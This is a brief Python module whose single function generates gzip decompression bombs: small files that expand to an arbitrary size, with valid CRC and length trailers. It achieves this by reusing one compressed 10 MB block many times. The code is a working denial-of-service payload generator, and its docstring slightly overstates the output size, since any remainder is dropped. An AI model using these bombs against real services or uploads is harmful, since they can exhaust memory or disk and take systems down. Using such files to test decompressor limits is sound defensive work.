"""Small gzip files that unpack to very much, made without packing all of it."""

import struct
import zlib

HEADER = b"\x1f\x8b\x08" + bytes(6) + b"\xff"  # RFC 1952: deflate, no name, no time
BLOCK = 10_000_000  # bytes


def make_gzip_bomb(before: bytes, filler: bytes, size: int, after: bytes = b"") -> bytes:
    """Returns one gzip member that unpacks to `before`, `size` bytes of one filler byte, and `after`.

    The filler is packed once: after a full flush the same bytes are packed the same.
    """
    block, times = filler * BLOCK, size // BLOCK
    checksum = zlib.crc32(before)
    for _ in range(times):
        checksum = zlib.crc32(block, checksum)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    begin = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    repeated = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(after) + packer.flush()
    length = len(before) + times * BLOCK + len(after)
    trailer = struct.pack("<2I", zlib.crc32(after, checksum), length)
    return HEADER + begin + repeated * times + end + trailer
